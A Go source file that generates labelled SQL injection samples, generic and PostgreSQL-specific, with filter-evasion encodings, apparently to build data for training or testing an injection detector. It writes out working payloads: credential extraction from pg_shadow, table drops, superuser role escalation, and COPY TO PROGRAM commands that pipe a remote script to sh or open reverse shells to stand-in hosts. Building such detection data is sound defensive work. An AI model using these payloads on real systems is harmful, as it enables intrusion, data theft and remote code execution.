package corpus

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// SQLi returns n SQL injection samples: about 55% generic payloads
// (label "sqli": tautologies, union, stacked, blind, time and error
// based, for any dialect) and 45% using PostgreSQL specifics (label
// "sqli_pg": pg_sleep, COPY … PROGRAM, roles, large objects, dblink,
// casts for error-based extraction, dollar quoting, CHR() chains…), each
// put in a break-out context and passed through evasions (case, blanks,
// comments, encodings).
func SQLi(r *rand.Rand, n int) []Sample {
	out := make([]Sample, 0, n)
	for len(out) < n {
		var core, label string
		if withProb(r, 0.45) {
			core, label = pgCore(r), LabelSQLiPG
		} else {
			core, label = genericCore(r), LabelSQLi
		}
		out = append(out, Sample{Value: evade(r, wrap(r, core)), Label: label})
	}
	return out
}

// cols is a select list of k items an attacker uses to match a union.
func cols(r *rand.Rand, k int, pg bool) string {
	items := make([]string, k)
	inject := r.IntN(k)
	for i := range items {
		switch {
		case i == inject && pg:
			items[i] = oneOf(r, "version()", "current_user", "current_database()", "usename", "passwd",
				"string_agg(usename,',')", "pg_read_file('/etc/passwd')", "current_setting('data_directory')",
				"inet_server_addr()", "session_user", "array_to_string(array(select rolname from pg_roles),',')",
				"chr(97)||chr(98)", "$$x$$", "table_name", "column_name", "rolpassword", "pg_backend_pid()")
		case i == inject:
			items[i] = oneOf(r, "version()", "@@version", "user()", "database()", "username", "password",
				"concat(username,0x3a,password)", "group_concat(table_name)", "table_name", "column_name",
				"name", "email", "load_file('/etc/passwd')", "system_user()", "0x61646d696e", "'a'", "1")
		default:
			items[i] = oneOf(r, "NULL", "null", "1", fmt.Sprint(i+1), "'a'", "NULL", "0")
		}
	}
	return strings.Join(items, ",")
}

func table(r *rand.Rand) string {
	return oneOf(r, "users", "admin", "accounts", "members", "customers", "orders", "auth.users",
		"public.profiles", "tbl_user", "login", "employees", "wp_users", "credentials")
}

func column(r *rand.Rand) string {
	return oneOf(r, "password", "username", "email", "passwd", "pass", "user_name", "secret", "token", "id", "name")
}

func num(r *rand.Rand) string { return fmt.Sprint(r.IntN(20) + 1) }

func delay(r *rand.Rand) string { return oneOf(r, "5", "10", "3", "7", "15", "20", "2") }

func cond(r *rand.Rand) string {
	n := r.IntN(100)
	switch r.IntN(8) {
	case 0:
		return fmt.Sprintf("%d=%d", n, n)
	case 1:
		return fmt.Sprintf("'%c'='%c'", oneOf(r, []rune("abcdefghijklmnopqrstuvwxyz")...), oneOf(r, []rune("abcdefghijklmnopqrstuvwxyz")...))
	case 2:
		return fmt.Sprintf("%d>%d", n+1, n)
	case 3:
		return "1=1"
	case 4:
		return fmt.Sprintf("%d=%d", n, n+1)
	case 5:
		return fmt.Sprintf("'%d'='%d'", n, n)
	case 6:
		return fmt.Sprintf("%d<%d", n, n+r.IntN(9)+1)
	}
	return "2=2"
}

// genericCore is one payload's SQL, written with single blanks.
func genericCore(r *rand.Rand) string {
	logic := oneOf(r, "OR", "AND", "or", "and", "OR", "||", "&&", "XOR")
	switch r.IntN(22) {
	case 0, 1, 2:
		return fmt.Sprintf("%s %s", logic, cond(r))
	case 3:
		return fmt.Sprintf("%s %s", oneOf(r, "OR", "or"), oneOf(r, "1", "true", "'1'", "'x'", "2", "0x1", "not false", "1 LIKE 1", "'a' LIKE 'a'", "1 IN (1,2)", "3 BETWEEN 1 AND 5", "'a' IS NOT NULL"))
	case 4, 5, 6:
		k := r.IntN(8) + 1
		from := ""
		if withProb(r, 0.5) {
			from = " FROM " + oneOf(r, table(r), "information_schema.tables", "information_schema.columns", "mysql.user", "dual", "sysobjects", "master..sysdatabases", "sqlite_master", "all_tables")
			if withProb(r, 0.3) {
				from += " WHERE " + oneOf(r, "1=1", "table_schema=database()", "rownum=1", "id=1", "xtype='U'")
			}
		}
		return fmt.Sprintf("UNION %sSELECT %s%s", oneOf(r, "", "ALL ", "DISTINCT ", "all "), cols(r, k, false), from)
	case 7:
		return fmt.Sprintf("; %s", oneOf(r,
			"DROP TABLE "+table(r), "DELETE FROM "+table(r), "TRUNCATE TABLE "+table(r),
			"INSERT INTO "+table(r)+" (username,password) VALUES ('hacker','x')",
			"UPDATE "+table(r)+" SET "+column(r)+"='x' WHERE 1=1",
			"EXEC xp_cmdshell('whoami')", "EXEC master..xp_cmdshell 'ping 10.0.0.1'", "SHUTDOWN",
			"WAITFOR DELAY '0:0:"+delay(r)+"'", "DECLARE @q varchar(99); SET @q='x'; EXEC(@q)",
			"SELECT * FROM "+table(r), "DROP DATABASE "+oneOf(r, "prod", "app", "main"),
			"ALTER TABLE "+table(r)+" DROP COLUMN "+column(r), "CREATE TABLE x (y text)",
			"SELECT SLEEP("+delay(r)+")", "UPDATE users SET is_admin=1"))
	case 8, 9:
		return fmt.Sprintf("%s %s((SELECT %s FROM %s LIMIT 1),%s,1)%s%s", oneOf(r, "AND", "and", "OR"),
			oneOf(r, "SUBSTRING", "substr", "MID", "SUBSTR"), column(r), table(r), num(r),
			oneOf(r, "=", ">", "<"), oneOf(r, "'a'", "'m'", "CHAR(109)", "'0'"))
	case 10:
		return fmt.Sprintf("AND ASCII(SUBSTRING((SELECT %s FROM %s LIMIT 1),%s,1))>%d", column(r), table(r), num(r), r.IntN(60)+40)
	case 11:
		return fmt.Sprintf("AND (SELECT COUNT(*) FROM %s)>%d", table(r), r.IntN(5))
	case 12:
		return oneOf(r, "AND SLEEP("+delay(r)+")", "OR SLEEP("+delay(r)+")", "AND BENCHMARK(5000000,MD5(1))",
			"AND (SELECT * FROM (SELECT(SLEEP("+delay(r)+")))a)", "OR IF(1=1,SLEEP("+delay(r)+"),0)",
			"; WAITFOR DELAY '0:0:"+delay(r)+"'", "AND 1=(SELECT 1 FROM (SELECT SLEEP("+delay(r)+"))x)",
			"WAITFOR DELAY '00:00:"+delay(r)+"'", "AND IF(ASCII(SUBSTRING(database(),1,1))>64,SLEEP(5),0)")
	case 13:
		return oneOf(r, "AND EXTRACTVALUE(1,CONCAT(0x7e,version()))", "AND UPDATEXML(1,CONCAT(0x7e,(SELECT user())),1)",
			"AND 1=CONVERT(int,@@version)", "AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))",
			"OR 1 GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)", "AND EXP(~(SELECT * FROM (SELECT user())x))",
			"AND ROW(1,1)>(SELECT COUNT(*),CONCAT(version(),0x3a,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)")
	case 14:
		return fmt.Sprintf("ORDER BY %s", num(r))
	case 15:
		return oneOf(r, "GROUP BY 1,2 HAVING 1=1", "HAVING 1=1", "GROUP BY "+column(r)+" HAVING 1=1", "LIMIT 1", "LIMIT 1 OFFSET 1",
			"PROCEDURE ANALYSE()", "INTO OUTFILE '/var/www/html/s.php'", "ORDER BY 1 DESC")
	case 16:
		return fmt.Sprintf("%s EXISTS(SELECT * FROM %s WHERE %s LIKE '%%a%%')", oneOf(r, "AND", "OR"), table(r), column(r))
	case 17:
		return fmt.Sprintf("%s %s=%s", logic, column(r), column(r))
	case 18:
		return oneOf(r, "AND 1=(SELECT 1 FROM "+table(r)+" WHERE "+column(r)+" LIKE 'a%')",
			"OR (SELECT 1)=1", "AND (SELECT 'x')='x'", "OR 1=(SELECT COUNT(*) FROM "+table(r)+")")
	case 19:
		return oneOf(r, "='", "||'", "+'", "= '' OR ''='", "=0 OR 1=1")
	case 20:
		return fmt.Sprintf("AND %s=%s", oneOf(r, "user()", "database()", "version()", "@@version", "db_name()"), oneOf(r, "user()", "'root@localhost'", "'x'", "1"))
	}
	return oneOf(r, ",(SELECT 1 FROM users))", ", (SELECT password FROM users LIMIT 1))", ",version())")
}

// pgCore is a payload using PostgreSQL specifics.
func pgCore(r *rand.Rand) string {
	logic := oneOf(r, "AND", "OR", "and", "or", "AND")
	cmd := oneOf(r, "id", "whoami", "curl http://203.0.113.7/x|sh", "nc 10.0.0.5 4444 -e /bin/sh",
		"bash -c 'bash -i >& /dev/tcp/10.1.2.3/443 0>&1'", "cat /etc/passwd", "wget http://evil.example/s")
	file := oneOf(r, "/etc/passwd", "pg_hba.conf", "postgresql.conf", "/var/lib/postgresql/data/postgresql.auto.conf", "global/pg_control", "/root/.ssh/id_rsa")
	setting := oneOf(r, "data_directory", "is_superuser", "config_file", "hba_file", "server_version", "role", "search_path", "log_directory")
	info := oneOf(r, "version()", "current_user", "current_database()", "(SELECT usename FROM pg_user LIMIT 1)",
		"(SELECT passwd FROM pg_shadow LIMIT 1)", "current_setting('"+setting+"')", "(SELECT string_agg(datname,',') FROM pg_database)",
		"inet_server_addr()", "(SELECT rolpassword FROM pg_authid WHERE rolname='postgres')", "session_user", "user")
	sleep := oneOf(r, "pg_sleep("+delay(r)+")", "pg_sleep_for('"+delay(r)+" seconds')", "pg_sleep(0."+delay(r)+")")
	switch r.IntN(26) {
	case 0, 1:
		return fmt.Sprintf("; SELECT %s", sleep)
	case 2:
		return fmt.Sprintf("%s 1=(SELECT 1 FROM %s)", logic, sleep)
	case 3:
		return fmt.Sprintf("|| %s", sleep)
	case 4:
		return fmt.Sprintf("%s (SELECT CASE WHEN (%s) THEN %s ELSE pg_sleep(0) END) IS NULL", logic, oneOf(r, "1=1", "SUBSTRING(current_user,1,1)='p'", "(SELECT COUNT(*) FROM pg_shadow)>0", "ASCII(SUBSTR(version(),1,1))=80"), sleep)
	case 5, 6:
		return fmt.Sprintf("%s 1=CAST(%s AS %s)", logic, info, oneOf(r, "int", "INT", "integer", "numeric", "bigint"))
	case 7:
		return fmt.Sprintf("%s 1=%s::%s", logic, oneOf(r, "(SELECT version())", "(SELECT current_user)", "(select current_setting('"+setting+"'))", "(SELECT passwd FROM pg_shadow LIMIT 1)"), oneOf(r, "int", "integer", "numeric"))
	case 8:
		return fmt.Sprintf("; COPY (SELECT '') TO PROGRAM '%s'", cmd)
	case 9:
		return fmt.Sprintf("; CREATE TABLE %s(out text); COPY %[1]s FROM PROGRAM '%s'", oneOf(r, "cmd_exec", "t", "x", "tmp"), cmd)
	case 10:
		return fmt.Sprintf("; COPY %s TO '%s'", oneOf(r, "users", "(SELECT * FROM pg_shadow)", "auth.users"), oneOf(r, "/tmp/out.csv", "/var/www/html/x.txt"))
	case 11:
		return oneOf(r, "; CREATE ROLE "+oneOf(r, "hacker", "x", "backdoor")+" WITH SUPERUSER LOGIN PASSWORD 'pw'",
			"; ALTER ROLE "+oneOf(r, "anon", "authenticated", "app")+" WITH SUPERUSER", "; ALTER USER postgres PASSWORD 'owned'",
			"; CREATE USER x PASSWORD 'y'; ALTER USER x WITH SUPERUSER",
			"; GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO anon",
			"; GRANT pg_execute_server_program TO "+oneOf(r, "anon", "app"), "; GRANT postgres TO authenticated",
			"; SET ROLE postgres", "; SET SESSION AUTHORIZATION postgres", "; RESET ROLE; SET ROLE service_role")
	case 12, 13:
		f := oneOf(r, "pg_read_file('"+file+"')", "pg_read_binary_file('"+file+"')", "pg_ls_dir('.')", "pg_ls_dir('/')",
			"pg_stat_file('"+file+"')", "lo_import('"+file+"')", "lo_export(16385,'/tmp/x.so')", "lo_from_bytea(0,'\\x41')",
			"lo_get(16385)")
		switch r.IntN(3) {
		case 0:
			return fmt.Sprintf("UNION SELECT %s", strings.Replace(cols(r, r.IntN(4)+1, true), "NULL", f, 1)+","+f)
		case 1:
			return fmt.Sprintf("; SELECT %s", f)
		}
		return fmt.Sprintf("%s 1=CAST(%s AS int)", logic, f)
	case 14:
		return oneOf(r, "; CREATE EXTENSION dblink", "; CREATE EXTENSION IF NOT EXISTS dblink",
			"UNION SELECT * FROM dblink('host=203.0.113.9 user=x dbname=y','SELECT 1') AS t(a int)",
			"; SELECT dblink_connect('host=attacker.example user=postgres password=x')",
			"; SELECT dblink_exec('dbname=postgres','ALTER ROLE anon SUPERUSER')", "; CREATE EXTENSION plpython3u",
			"; LOAD '/tmp/evil.so'", "; CREATE EXTENSION adminpack")
	case 15:
		return oneOf(r, "; CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE C STRICT",
			"; CREATE FUNCTION f() RETURNS void AS $$ BEGIN PERFORM pg_sleep(5); END $$ LANGUAGE plpgsql",
			"; DO $$ BEGIN PERFORM "+sleep+"; END $$", "; DO $x$ BEGIN EXECUTE 'DROP TABLE users'; END $x$",
			"; DO LANGUAGE plpgsql $$ BEGIN RAISE NOTICE '%', current_user; END $$")
	case 16:
		return fmt.Sprintf("%s %s", logic, oneOf(r, "current_setting('"+setting+"')='on'", "set_config('role','postgres',false) IS NOT NULL",
			"length(current_setting('"+setting+"'))>1", "1=(SELECT 1 FROM pg_settings WHERE name='"+setting+"')"))
	case 17:
		return fmt.Sprintf("UNION SELECT %s", oneOf(r, "query_to_xml('SELECT * FROM pg_user',true,true,'')", "database_to_xml(true,true,'')",
			"table_to_xml('pg_shadow',true,false,'')", "query_to_xml('select usename,passwd from pg_shadow',true,true,'')::text"))
	case 18:
		return fmt.Sprintf("UNION SELECT %s FROM %s", cols(r, r.IntN(4)+1, true), oneOf(r, "pg_shadow", "pg_authid", "pg_user", "pg_catalog.pg_tables",
			"information_schema.tables", "pg_database", "pg_roles", "pg_catalog.pg_namespace", "information_schema.columns WHERE table_name='users'", "pg_stat_activity"))
	case 19:
		return fmt.Sprintf("%s %s=%s", logic, oneOf(r, "CHR(65)||CHR(66)", "chr(112)||chr(103)", "CHR(39)||CHR(49)"), oneOf(r, "'AB'", "'pg'", "CHR(65)||CHR(66)"))
	case 20:
		return fmt.Sprintf("|| (SELECT %s) ||", oneOf(r, "chr(65)||chr(66)||chr(67)", "version()", "current_user", "string_agg(usename,',') FROM pg_user", "current_setting('"+setting+"')"))
	case 21:
		return fmt.Sprintf("%s $$%s$$=$$%[2]s$$", logic, oneOf(r, "a", "x", "1", "abc"))
	case 22:
		return fmt.Sprintf("%s 1=(SELECT 1 FROM pg_sleep(%s))", logic, delay(r))
	case 23:
		return fmt.Sprintf("%s %s::text LIKE '%%%s%%'", logic, oneOf(r, "version()", "current_user", "(select current_setting('server_version'))"), oneOf(r, "PostgreSQL", "post", "16"))
	case 24:
		return fmt.Sprintf("%s (SELECT COUNT(*) FROM generate_series(1,%d))>0", logic, 1000000*(r.IntN(50)+1))
	}
	return fmt.Sprintf("%s 1=(SELECT CASE WHEN (SUBSTR((SELECT %s FROM %s LIMIT 1),%s,1)='a') THEN 1 ELSE 1/(SELECT 0) END)", logic, column(r), table(r), num(r))
}

// wrap puts core in a break-out context: after a closed string or
// identifier, or a number, with a comment or a balancing literal to end.
func wrap(r *rand.Rand, core string) string {
	stacked := strings.HasPrefix(core, ";")
	bare := strings.HasPrefix(core, "=") || strings.HasPrefix(core, "||'") || strings.HasPrefix(core, "+'")
	var pre string
	ctx := r.IntN(10)
	switch {
	case ctx < 6: // a quoted string
		pre = oneOf(r, "'", "'", "1'", "admin'", "x'", "test'", "%'", "a'", "' ", "1' ", "')", "'))", "abc')", "john@example.com'", "0'", "-1'", "9999'")
	case ctx < 7: // a quoted identifier
		pre = oneOf(r, "\"", "1\"", "x\"", "\")", "id\"")
	default: // a number
		pre = oneOf(r, "1", "1 ", "-1", "0", "1)", "1))", "42", "999999", "-1 ", "1.5", "(1)")
	}
	if bare {
		pre = strings.TrimRight(pre, " ")
		if !strings.ContainsAny(pre, "'\"") {
			pre = oneOf(r, "'", "admin'", "x'")
		}
	}
	sep := " "
	if strings.HasSuffix(pre, " ") || stacked || withProb(r, 0.15) {
		sep = ""
	}
	if bare && strings.Contains(pre, "\"") {
		core = strings.ReplaceAll(core, "'", "\"") // the quote the query closes
	}
	s := pre + sep + core
	if bare {
		return s
	}
	quote := strings.ContainsAny(pre, "'\"")
	q := "'"
	if strings.Contains(pre, "\"") {
		q = "\""
	}
	switch e := r.IntN(10); {
	case e < 5:
		s += oneOf(r, "--", "-- ", "-- -", "--+", "#", "/*", ";--", "-- x", ";", "%00", "--'", "-- //")
	case e < 8 && quote:
		// Balance the query's closing quote instead of commenting it out.
		if strings.HasSuffix(core, q) {
			break
		}
		s += oneOf(r, " AND "+q+"1"+q+"="+q+"1", " OR "+q+"a"+q+"="+q+"a", " AND "+q+"x"+q+" LIKE "+q+"x", " "+q+"1"+q+"="+q+"1", " AND 1="+q+"1")
	}
	return s
}

// evade applies the disguises payloads carry to get past filters.
func evade(r *rand.Rand, s string) string {
	if withProb(r, 0.35) {
		s = caseVariant(r, s)
	}
	if withProb(r, 0.06) {
		s = splitKeyword(r, s)
	}
	if withProb(r, 0.03) {
		s = gluedNumber(r, s)
	}
	if withProb(r, 0.05) {
		s = versioned(r, s)
	}
	if withProb(r, 0.3) {
		s = blanks(r, s)
	}
	switch x := r.Float64(); {
	case x < 0.10:
		s = urlEncode(r, s, false)
	case x < 0.14:
		s = urlEncode(r, urlEncode(r, s, false), true)
	case x < 0.16:
		s = strings.NewReplacer("'", "&#39;", "\"", "&quot;").Replace(s)
	case x < 0.18:
		s = strings.ReplaceAll(s, "'", "%u0027")
	case x < 0.19:
		s = strings.ReplaceAll(s, "'", oneOf(r, "%C0%A7", "%EF%BC%87", "%00%27", "%BF%27"))
	case x < 0.20:
		s = strings.ReplaceAll(s, " ", "%A0")
	}
	return s
}

// gluedNumber writes a number glued to the keyword after it, as MySQL
// reads it (1 UNION → 1e0UNION, 0eUNION, 1dUNION).
func gluedNumber(r *rand.Rand, s string) string {
	for _, k := range []string{" UNION", " union", " OR", " AND", " or", " and"} {
		if i := strings.Index(s, k); i > 0 && s[i-1] >= '0' && s[i-1] <= '9' {
			return s[:i] + oneOf(r, "e0", "d", "e", ".") + s[i+1:]
		}
	}
	return s
}

var keywords = []string{"UNION", "SELECT", "FROM", "WHERE", "AND", "OR", "ORDER", "DROP", "INSERT", "UPDATE", "DELETE", "COPY", "TABLE", "CREATE", "SLEEP", "pg_sleep"}

func caseVariant(r *rand.Rand, s string) string {
	switch r.IntN(3) {
	case 0:
		return strings.ToLower(s)
	case 1:
		return strings.ToUpper(s)
	}
	b := []byte(s)
	for i, c := range b {
		if c >= 'a' && c <= 'z' && withProb(r, 0.5) {
			b[i] = c - 32
		} else if c >= 'A' && c <= 'Z' && withProb(r, 0.5) {
			b[i] = c + 32
		}
	}
	return string(b)
}

func splitKeyword(r *rand.Rand, s string) string {
	for _, k := range keywords {
		i := strings.Index(strings.ToUpper(s), strings.ToUpper(k))
		if i >= 0 && len(k) >= 4 {
			cut := i + 1 + r.IntN(len(k)-1)
			s = s[:cut] + oneOf(r, "/**/", "/*x*/", "/*!*/") + s[cut:]
			if withProb(r, 0.3) && cut+1 < i+len(k) {
				// randomcomments: more than one cut
				s = s[:i+1] + "/**/" + s[i+1:]
			}
			return s
		}
	}
	return s
}

func versioned(r *rand.Rand, s string) string {
	for _, k := range []string{"UNION", "SELECT", "union", "select", "AND", "OR"} {
		if i := strings.Index(s, k+" "); i >= 0 {
			return s[:i] + "/*!" + oneOf(r, "", "50000", "12345", "00000") + k + "*/" + s[i+len(k):]
		}
	}
	return s
}

func blanks(r *rand.Rand, s string) string {
	b := oneOf(r, "/**/", "\t", "\n", "  ", "/*x*/", "\u00a0", "\r\n", "%20", "%09", "%0a", "+", "/*!*/", "\u3000", "\x0b", "--\n", "#\n", "\f")
	if b == "#\n" || b == "--\n" {
		b = oneOf(r, "--", "#") + fmt.Sprint(r.IntN(1000)) + "\n"
	}
	if b == "+" && strings.Contains(s, "+") {
		b = "%20"
	}
	return strings.ReplaceAll(s, " ", b)
}

// urlEncode percent-encodes s's punctuation (and some letters); again
// says s is already encoded (double encoding: %27 becomes %2527).
func urlEncode(r *rand.Rand, s string, again bool) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		alnum := c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9'
		switch {
		case c == ' ' && !again && withProb(r, 0.5):
			b.WriteByte('+')
		case !alnum || !again && withProb(r, 0.1):
			fmt.Fprintf(&b, "%%%02X", c)
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}
